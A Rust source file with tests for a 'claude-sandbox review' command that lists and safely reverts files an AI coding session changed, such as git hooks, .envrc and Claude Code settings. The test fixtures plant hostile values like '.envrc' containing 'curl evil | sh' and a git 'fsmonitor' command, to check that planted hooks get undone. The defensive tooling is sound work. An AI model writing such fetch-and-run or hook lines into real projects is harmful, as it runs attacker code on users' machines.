//! `claude-sandbox review` lists the recorded changes not reverted yet;
//! `review --revert` puts each path back where it still holds exactly what
//! the session left (newest session first), and marks it reverted in the log.

use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::change::{fingerprint, shown, Change, Ident, Item, Old, UNREAD};
use super::log::{change_line, log_dir, rewrite, Session};
use super::place::Place;
use super::scan::Entry;
use super::settings::{keys_fingerprint, projection};
use crate::sys::paths;

/// What `claude-sandbox review` was asked to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Ask {
    /// List what is recorded and left.
    List,
    /// `--revert`: undo the recorded changes.
    Revert,
    /// `--apply ID…` / `--apply-all`: put held items in place (issue #44).
    Apply { ids: Vec<String>, all: bool },
}

/// `claude-sandbox review [--revert | --apply ID… | --apply-all]` for the
/// calling user.
pub(crate) fn review_main(ask: Ask) -> anyhow::Result<i32> {
    let home = crate::sys::user::identity()
        .map_err(crate::error::bad_input)?
        .home;
    Ok(review(
        &home,
        ask,
        &mut std::io::stdout(),
        &mut std::io::stderr(),
    ))
}

/// List (or undo, or apply) what is recorded under `home` and left.
/// Returns the exit status: 0 nothing left, 1 something left (changes or
/// held items listed, or paths the revert or apply refused).
fn review(home: &Path, ask: Ask, out: &mut dyn Write, err: &mut dyn Write) -> i32 {
    let sessions = sessions(home, err);
    match ask {
        Ask::Revert => revert_all(home, sessions, out, err),
        Ask::Apply { ids, all } => super::held_review::apply(sessions, &ids, all, out, err),
        Ask::List => {
            let changes = list(&sessions, out) == 1;
            let held = super::held_review::list(&sessions, out);
            if !changes && !held {
                let _ = writeln!(out, "claude-sandbox: no recorded change to review");
            }
            i32::from(changes || held)
        }
    }
}

/// The recorded sessions, oldest first, each with its file.
fn sessions(home: &Path, err: &mut dyn Write) -> Vec<(PathBuf, Session)> {
    let Ok(rd) = std::fs::read_dir(log_dir(home)) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for e in rd.flatten() {
        let p = e.path();
        let name = e.file_name();
        if name.as_bytes().starts_with(b".") || p.extension().is_none_or(|x| x != "json") {
            continue;
        }
        let read = std::fs::read(&p)
            .map_err(|e| e.to_string())
            .and_then(|b| serde_json::from_slice::<Session>(&b).map_err(|e| e.to_string()));
        match read {
            Ok(s) => out.push((p, s)),
            Err(e) => {
                let _ = writeln!(err, "claude-sandbox: skipping {}: {e}", p.display());
            }
        }
    }
    out.sort_by(|a, b| (a.1.ended, &a.0).cmp(&(b.1.ended, &b.0)));
    out
}

fn list(sessions: &[(PathBuf, Session)], out: &mut dyn Write) -> i32 {
    let mut any = false;
    for (_, s) in sessions {
        let open: Vec<&Change> = s
            .changes
            .iter()
            .filter(|c| c.items.iter().any(|i| !i.reverted))
            .collect();
        if open.is_empty() {
            continue;
        }
        any = true;
        let _ = writeln!(
            out,
            "Session ended {} in {}:",
            crate::sys::clock::utc(s.ended),
            shown(&s.workspace.to_string_lossy())
        );
        for c in open {
            let _ = out.write_all(change_line(c).as_bytes());
        }
    }
    if any {
        let _ = writeln!(out, "Undo with: {} review --revert", paths::SELF_BIN);
    }
    i32::from(any)
}

/// Undo every recorded change, newest session first (so a path changed by
/// two sessions goes back step by step); each session's file is rewritten
/// with what was reverted.
fn revert_all(
    home: &Path,
    mut sessions: Vec<(PathBuf, Session)>,
    out: &mut dyn Write,
    err: &mut dyn Write,
) -> i32 {
    let (mut done, mut left) = (0usize, 0usize);
    for (file, s) in sessions.iter_mut().rev() {
        let mut touched = false;
        for (ci, ii) in revert_order(&s.changes) {
            let item = &mut s.changes[ci].items[ii];
            if item.reverted {
                continue;
            }
            let name = shown(&item.path.to_string_lossy());
            match revert_item(home, &s.workspace, item) {
                Ok(()) => {
                    item.reverted = true;
                    touched = true;
                    done += 1;
                    let _ = writeln!(out, "reverted {name}");
                }
                Err(why) => {
                    left += 1;
                    let _ = writeln!(err, "claude-sandbox: not reverted: {name}: {why}");
                }
            }
        }
        if !touched {
            continue;
        }
        if !rewrite(file, s, err) {
            left += 1;
        }
    }
    if done + left == 0 {
        let _ = writeln!(out, "claude-sandbox: nothing to revert");
    }
    i32::from(left > 0)
}

/// The order items are undone in: removed directories recreated (parents
/// first), then files, then created directories removed (children first).
fn revert_order(changes: &[Change]) -> Vec<(usize, usize)> {
    let mut all: Vec<(usize, usize)> = changes
        .iter()
        .enumerate()
        .flat_map(|(ci, c)| (0..c.items.len()).map(move |ii| (ci, ii)))
        .collect();
    let group = |&(ci, ii): &(usize, usize)| {
        let it: &Item = &changes[ci].items[ii];
        match (&it.old, it.new.as_deref()) {
            (Old::Dir { .. }, _) => 0,
            (Old::Absent, Some("dir")) => 2,
            _ => 1,
        }
    };
    all.sort_by(|a, b| {
        let (pa, pb) = (&changes[a.0].items[a.1].path, &changes[b.0].items[b.1].path);
        group(a).cmp(&group(b)).then_with(|| match group(a) {
            0 => pa.cmp(pb),
            _ => pb.cmp(pa),
        })
    });
    all
}

/// Put one path back, if it still holds exactly what the session left
/// (the same file system object, with the same content) and lies where a
/// revert may act ([`Place::locate`]).
fn revert_item(home: &Path, workspace: &Path, it: &Item) -> Result<(), String> {
    if it.new.as_deref() == Some(UNREAD) {
        return Err("what the session left was not read (too large, or not a regular file)".into());
    }
    if it.old == Old::Unknown {
        return Err("what was there before the session was not kept, or the session may not have made what is there now".into());
    }
    let place = Place::locate(home, workspace, &it.path)?;
    if matches!(it.old, Old::Keys { .. }) && !place.settings {
        return Err("not a Claude Code settings file: a revert does not edit it".into());
    }
    let now = place.entry()?;
    left_as_recorded(it, now.as_ref())?;
    // `now` is what the session left (or nothing, where it left nothing).
    let now_dir = matches!(now, Some(Entry::Dir { .. }));
    match &it.old {
        Old::Keys { existed, values } => revert_keys(&place, now, *existed, values),
        Old::Absent => place.remove(now_dir),
        Old::File { mode, content } => {
            if now_dir {
                place.remove(true)?;
            }
            place.put_file(content, *mode, now.is_some() && !now_dir)
        }
        Old::Link { target } => {
            if now_dir {
                place.remove(true)?;
            }
            place.put_link(target, now.is_some() && !now_dir)
        }
        Old::Dir { mode } => {
            if now.is_some() {
                place.remove(now_dir)?;
            }
            place.make_dir(*mode)
        }
        Old::Unknown => Err("what was there before the session was not kept".into()),
    }
}

const CHANGED: &str = "it changed since the session ended; check it by hand";

/// Whether `now` is exactly what the session left: nothing where it left
/// nothing; otherwise the object recorded at the session's end (device and
/// inode) with the recorded content (settings files: the recorded keys, as
/// Claude Code rewrites these files whole).
fn left_as_recorded(it: &Item, now: Option<&Entry>) -> Result<(), String> {
    const OLDER: &str = "recorded by an older claude-sandbox, without the identity of what the session left: a revert does not remove or replace it; check it by hand";
    if now.is_some() && it.new.is_some() && it.left.is_none() {
        return Err(OLDER.into());
    }
    let same = match (&it.old, &it.new, now) {
        (Old::Keys { values, .. }, Some(fp), now) => {
            let p = projection(now, true)?;
            let keys: Vec<Vec<String>> = values.iter().map(|(k, _)| k.clone()).collect();
            keys_fingerprint(&p, &keys) == *fp
        }
        (_, None, None) => true,
        (_, Some(fp), Some(now)) => Ident::of(Some(now)) == it.left && fingerprint(now) == *fp,
        _ => false,
    };
    if same {
        Ok(())
    } else {
        Err(CHANGED.into())
    }
}

/// Put the old values of settings keys back, leaving every other key as it
/// is now (`now`: the file, already checked); a file the session created
/// is removed once nothing is left in it.
fn revert_keys(
    place: &Place,
    now: Option<Entry>,
    existed: bool,
    values: &[(Vec<String>, Option<Value>)],
) -> Result<(), String> {
    let (mut v, mode) = match &now {
        None => (Value::Object(Default::default()), 0o600),
        Some(Entry::File {
            meta,
            content: Some(c),
        }) => (
            serde_json::from_slice(c).map_err(|e| format!("not JSON: {e}"))?,
            meta.mode & 0o7777,
        ),
        Some(_) => return Err("not a regular file".into()),
    };
    let obj = v.as_object_mut().ok_or("not a JSON object")?;
    for (k, old) in values {
        set_key(obj, k, old.clone());
    }
    if !existed && obj.is_empty() {
        return match now {
            Some(_) => place.remove(false),
            None => Ok(()),
        };
    }
    let mut text = serde_json::to_vec_pretty(&v).map_err(|e| e.to_string())?;
    text.push(b'\n');
    place.put_file(&text, mode, now.is_some())
}

/// Set (or with `None` remove) the value at a path of object keys.
fn set_key(obj: &mut serde_json::Map<String, Value>, key: &[String], value: Option<Value>) {
    match (key, value) {
        ([], _) => {}
        ([last], Some(v)) => {
            obj.insert(last.clone(), v);
        }
        ([last], None) => {
            obj.shift_remove(last);
        }
        ([first, rest @ ..], value) => {
            if value.is_none() && !obj.contains_key(first) {
                return;
            }
            let child = obj
                .entry(first.clone())
                .or_insert_with(|| Value::Object(Default::default()));
            if !child.is_object() && value.is_some() {
                *child = Value::Object(Default::default());
            }
            if let Some(m) = child.as_object_mut() {
                set_key(m, rest, value);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};

    use super::super::fixtures::{world, write, CFG};
    use super::super::log::{record, VERSION};
    use super::super::scan::read_entry;
    use super::super::watch::Watch;
    use super::*;
    use crate::plan::protect;

    /// Record what changed since `w` started, as the end of a session does.
    fn end(home: &Path, ws: &Path, w: &Watch) -> Vec<Change> {
        let changes = w.changes();
        let session = Session {
            version: VERSION,
            started: 0,
            ended: 0,
            workspace: ws.to_path_buf(),
            held: Vec::new(),
            changes: changes.clone(),
        };
        record(home, &session).unwrap();
        changes
    }

    /// The strongest forgery of a record for `path`: "absent before, the
    /// session left exactly this" (its identity and content now).
    fn forged(path: &Path) -> Item {
        let m = std::fs::symlink_metadata(path).unwrap();
        let e = read_entry(path, &m, None, &mut { 1 << 20 });
        Item {
            path: path.to_path_buf(),
            old: Old::Absent,
            new: Some(fingerprint(&e)),
            left: Ident::of(Some(&e)),
            reverted: false,
        }
    }

    fn record_items(home: &Path, ws: &Path, version: u32, items: Vec<Item>) {
        let session = Session {
            version,
            started: 0,
            ended: 0,
            workspace: ws.to_path_buf(),
            held: Vec::new(),
            changes: vec![Change {
                path: ws.join(".git/config"),
                mark: super::super::change::Mark::Added,
                what: "(new)".into(),
                items,
            }],
        };
        record(home, &session).unwrap();
    }

    fn ident(p: &Path) -> (u64, u64, Vec<u8>) {
        let m = std::fs::symlink_metadata(p).unwrap();
        (m.dev(), m.ino(), std::fs::read(p).unwrap())
    }

    fn review_text(home: &Path, revert: bool) -> (i32, String, String) {
        let (mut out, mut err) = (Vec::new(), Vec::new());
        let ask = if revert { Ask::Revert } else { Ask::List };
        let code = review(home, ask, &mut out, &mut err);
        (
            code,
            String::from_utf8(out).unwrap(),
            String::from_utf8(err).unwrap(),
        )
    }

    #[test]
    fn review_lists_and_revert_undoes_unless_changed_since() {
        let (base, home, ws) = world("revert");
        std::fs::set_permissions(ws.join(".envrc"), std::fs::Permissions::from_mode(0o640))
            .unwrap();
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("sub/.git/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join(".vscode/sub/tasks.json"), "{}");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        write(
            &home.join(".claude/settings.json"),
            r#"{"model":"y","hooks":{"Stop":[{"hooks":[]}]}}"#,
        );
        let changes = w.changes();
        let session = Session {
            version: VERSION,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            held: Vec::new(),
            changes,
        };
        record(&home, &session).unwrap();
        let (code, out, _) = review_text(&home, false);
        assert_eq!(code, 1, "changes left to review");
        assert!(out.contains("core.fsmonitor = touch MARK"), "{out}");
        assert!(out.contains("hooks.Stop added"), "{out}");
        // Changed again after the session: that path is left, with one line.
        write(&ws.join(".git/hooks/post-checkout"), "edited by the user");
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.contains(".git/hooks/post-checkout: it changed since the session ended"),
            "{err}"
        );
        assert!(!ws.join("sub/.git/config").exists());
        assert!(
            ws.join("sub/.git/HEAD").exists(),
            "only the config was recorded"
        );
        assert!(!ws.join(".vscode").exists(), "the new directory is gone");
        assert_eq!(
            std::fs::read_to_string(ws.join(".envrc")).unwrap(),
            "export A=1\n"
        );
        let mode = std::fs::metadata(ws.join(".envrc"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o640, "the old mode is back");
        assert_eq!(
            std::fs::read_to_string(ws.join(".mcp.json")).unwrap(),
            "{}\n"
        );
        let settings = std::fs::read_to_string(home.join(".claude/settings.json")).unwrap();
        let v: Value = serde_json::from_str(&settings).unwrap();
        assert_eq!(
            v,
            serde_json::json!({"model": "y"}),
            "only the hooks key went back"
        );
        // What is left is listed; once it holds what the session left, it goes too.
        let (code, out, _) = review_text(&home, false);
        assert_eq!(code, 1);
        assert_eq!(
            out.lines().filter(|l| l.starts_with("  ")).count(),
            1,
            "{out}"
        );
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join(".git/hooks/post-checkout").exists());
        let (code, out, _) = review_text(&home, false);
        assert_eq!(
            (code, out.trim()),
            (0, "claude-sandbox: no recorded change to review")
        );
        let (code, out, _) = review_text(&home, true);
        assert_eq!((code, out.trim()), (0, "claude-sandbox: nothing to revert"));
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_settings_file_the_session_created_goes_when_emptied() {
        let (base, home, ws) = world("settings-new");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(
            &ws.join(".claude/settings.local.json"),
            r#"{"env":{"X":"1"}}"#,
        );
        let session = Session {
            version: VERSION,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            held: Vec::new(),
            changes: w.changes(),
        };
        assert_eq!(session.changes.len(), 1);
        record(&home, &session).unwrap();
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join(".claude/settings.local.json").exists());
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_record_naming_paths_outside_the_workspace_touches_none_of_them() {
        // The ~/.kube pointer: a record that names the user's real files,
        // forged as strongly as possible (identity and content match).
        let (base, home, ws) = world("kube");
        write(&home.join(".kube/config"), "apiVersion: v1\n");
        write(&home.join(".kube/hooks/x"), "user's\n");
        write(
            &ws.join("k/.git"),
            &format!("gitdir: {}\n", home.join(".kube").display()),
        );
        let (config, hook) = (home.join(".kube/config"), home.join(".kube/hooks/x"));
        let before = (ident(&config), ident(&hook));
        // `..` out of the workspace, and the workspace itself.
        let dotdot = ws.join("../home/.kube/config");
        let mut sneaky = forged(&config);
        sneaky.path = dotdot.clone();
        let mut whole = forged(&ws);
        whole.path = ws.clone();
        let items = vec![
            forged(&config),
            forged(&hook),
            sneaky,
            whole,
            forged(&ws.join("k/.git")),
        ];
        record_items(&home, &ws, VERSION, items);
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(before, (ident(&config), ident(&hook)), "untouched");
        for (p, why) in [
            (&config, "outside the session's workspace"),
            (&hook, "outside the session's workspace"),
            (&dotdot, "not a plain path below"),
            (&ws, "the workspace itself"),
        ] {
            let line = format!("claude-sandbox: not reverted: {}: {why}", p.display());
            assert!(err.contains(&line), "{line}\n{err}");
        }
        assert_eq!(err.lines().count(), 4, "{err}");
        // Control: the pointer the session planted inside goes.
        assert_eq!(out, format!("reverted {}\n", ws.join("k/.git").display()));
        assert!(!ws.join("k/.git").exists());
        assert!(ws.join("k").is_dir(), "its directory was not recorded");
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_file_replaced_after_the_session_by_one_of_the_same_name_stays() {
        let (base, home, ws) = world("replaced");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        write(&ws.join(".envrc"), "curl evil | sh\n");
        assert_eq!(end(&home, &ws, &w).len(), 2);
        // The user's own files, same names, even the same content: other
        // inodes (an editor saving by rename does this).
        for (rel, text) in [
            (".git/hooks/post-checkout", "evil"),
            (".envrc", "curl evil | sh\n"),
        ] {
            let p = ws.join(rel);
            write(&ws.join("user-copy"), text);
            std::fs::rename(ws.join("user-copy"), &p).unwrap();
        }
        let kept = (
            ident(&ws.join(".git/hooks/post-checkout")),
            ident(&ws.join(".envrc")),
        );
        let (code, out, err) = review_text(&home, true);
        assert_eq!((code, out.as_str()), (1, ""), "{err}");
        assert_eq!(
            err.matches("it changed since the session ended").count(),
            2,
            "{err}"
        );
        assert_eq!(
            kept,
            (
                ident(&ws.join(".git/hooks/post-checkout")),
                ident(&ws.join(".envrc"))
            )
        );
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_symlink_swapped_into_a_parent_is_not_followed() {
        let (base, home, ws) = world("swapped");
        write(&ws.join("sub/.git/HEAD"), "ref: refs/heads/main\n");
        write(&ws.join("sub/.git/config"), CFG);
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join("sub/.git/hooks/pre-commit"), "evil");
        assert_eq!(end(&home, &ws, &w).len(), 1);
        // The same directory, now reached through a symlink from outside:
        // the file there has the recorded identity and content.
        let away = base.join("away");
        std::fs::rename(ws.join("sub"), &away).unwrap();
        std::os::unix::fs::symlink(&away, ws.join("sub")).unwrap();
        let hook = away.join(".git/hooks/pre-commit");
        let kept = ident(&hook);
        let (code, out, err) = review_text(&home, true);
        assert_eq!((code, out.as_str()), (1, ""), "{err}");
        let line = format!(
            "claude-sandbox: not reverted: {}: {} is not a directory now (a symlink?)",
            ws.join("sub/.git/hooks/pre-commit").display(),
            ws.join("sub").display()
        );
        assert!(err.starts_with(&line), "{err}");
        assert_eq!(kept, ident(&hook));
        // Control: the same directory back in place, the revert acts.
        std::fs::remove_file(ws.join("sub")).unwrap();
        std::fs::rename(&away, ws.join("sub")).unwrap();
        assert_eq!(review_text(&home, true).0, 0);
        assert!(!ws.join("sub/.git/hooks/pre-commit").exists());
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn a_planted_commondir_is_removed_and_what_it_named_if_the_session_made_it() {
        let (base, home, ws) = world("commondir");
        write(&ws.join("notes/keep"), "the user's\n");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join(".git/commondir"), "../c\n");
        write(&ws.join("c/HEAD"), "ref: refs/heads/main\n");
        write(
            &ws.join("c/config"),
            &format!("{CFG}\tfsmonitor = touch MARK\n"),
        );
        write(&ws.join("c/hooks/post-checkout"), "evil");
        let changes = end(&home, &ws, &w);
        let paths: Vec<&Path> = changes.iter().map(|c| c.path.as_path()).collect();
        assert!(
            paths.contains(&ws.join(".git/commondir").as_path()),
            "{paths:?}"
        );
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 0, "{out}{err}");
        assert!(!ws.join(".git/commondir").exists());
        assert!(!ws.join("c/config").exists());
        assert!(!ws.join("c/hooks/post-checkout").exists());
        assert!(ws.join("notes/keep").exists());
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn what_the_session_did_not_create_is_never_removed() {
        let (base, home, ws) = world("moved");
        write(&ws.join("notes.txt"), "the user's notes\n");
        write(&ws.join("plan.txt"), "the user's plan\n");
        // Older than the launch by more than the tripwire's slack.
        std::thread::sleep(std::time::Duration::from_millis(1100));
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        // Moved and linked into watched places: the tripwire reports them
        // as new, but they are the user's files.
        std::fs::create_dir_all(ws.join(".vscode")).unwrap();
        std::fs::rename(ws.join("notes.txt"), ws.join(".vscode/tasks.json")).unwrap();
        std::fs::hard_link(ws.join("plan.txt"), ws.join(".git/hooks/pre-push")).unwrap();
        std::fs::remove_file(ws.join("plan.txt")).unwrap();
        write(&ws.join(".vscode/settings.json"), "{}");
        assert_eq!(end(&home, &ws, &w).len(), 2);
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 1, "{out}{err}");
        assert_eq!(
            std::fs::read_to_string(ws.join(".vscode/tasks.json")).unwrap(),
            "the user's notes\n"
        );
        assert_eq!(
            std::fs::read_to_string(ws.join(".git/hooks/pre-push")).unwrap(),
            "the user's plan\n"
        );
        assert_eq!(
            err.matches("may not have made what is there now").count(),
            2,
            "{err}"
        );
        // Control: what it did create goes; its directory stays, not empty.
        assert!(!ws.join(".vscode/settings.json").exists(), "{out}");
        assert!(err.contains(".vscode: the directory holds files"), "{err}");
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn an_older_record_never_removes_or_replaces() {
        let (base, home, ws) = world("old");
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        write(&ws.join(".git/hooks/post-checkout"), "evil");
        std::fs::remove_file(ws.join(".mcp.json")).unwrap();
        let mut changes = w.changes();
        for c in &mut changes {
            for i in &mut c.items {
                i.left = None;
            }
        }
        let session = Session {
            version: 1,
            started: 0,
            ended: 0,
            workspace: ws.clone(),
            held: Vec::new(),
            changes,
        };
        // As an older claude-sandbox wrote it: no `left`.
        let text = String::from_utf8(super::super::log::session_bytes(&session).unwrap()).unwrap();
        assert!(!text.contains("\"left\""), "{text}");
        record(&home, &session).unwrap();
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 1, "{out}{err}");
        assert!(
            err.contains("post-checkout: recorded by an older claude-sandbox"),
            "{err}"
        );
        assert!(ws.join(".git/hooks/post-checkout").exists());
        // Putting back what the session removed, where nothing is, destroys nothing.
        assert_eq!(
            out,
            format!("reverted {}\n", ws.join(".mcp.json").display())
        );
        std::fs::remove_dir_all(&base).unwrap();
    }

    #[test]
    fn settings_the_session_deleted_come_back_key_by_key() {
        let (base, home, ws) = world("settings-gone");
        write(
            &ws.join(".claude/settings.json"),
            r#"{"hooks":{"Stop":[]},"model":"x"}"#,
        );
        let w = Watch::start(&home, &ws, protect::discover(&ws));
        std::fs::remove_file(ws.join(".claude/settings.json")).unwrap();
        assert_eq!(end(&home, &ws, &w).len(), 1);
        let (code, out, err) = review_text(&home, true);
        assert_eq!(code, 0, "{out}{err}");
        let v: Value = serde_json::from_str(
            &std::fs::read_to_string(ws.join(".claude/settings.json")).unwrap(),
        )
        .unwrap();
        assert_eq!(
            v,
            serde_json::json!({"hooks": {"Stop": []}}),
            "the recorded keys only"
        );
        std::fs::remove_dir_all(&base).unwrap();
    }
}
